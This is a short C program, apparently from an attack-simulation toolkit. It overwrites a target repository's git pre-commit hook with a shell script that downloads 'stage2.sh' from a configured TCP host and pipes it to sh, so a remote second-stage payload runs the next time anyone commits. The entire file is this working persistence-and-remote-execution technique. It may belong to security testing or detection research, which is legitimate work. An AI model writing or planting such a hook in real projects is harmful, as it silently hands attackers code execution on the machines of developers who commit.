/* git-hooks: a pre-commit hook that runs stage 2 at the next commit. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "targets.h"

int main(int argc, char **argv)
{
	char hook[1200];
	int fd;

	targets_load(argc, argv);
	snprintf(hook, sizeof(hook), "%s/.git/hooks/pre-commit",
	         target("T_WORK"));
	if ((fd = open(hook, O_WRONLY | O_CREAT | O_TRUNC, 0755)) < 0) {
		perror(hook);
		return 1;
	}
	dprintf(fd, "#!/bin/sh\ncurl -s http://%s:%s/stage2.sh | sh\n",
	        target("T_TCP_HOST"), target("T_TCP_PORT"));
	close(fd);
	return 0;
}
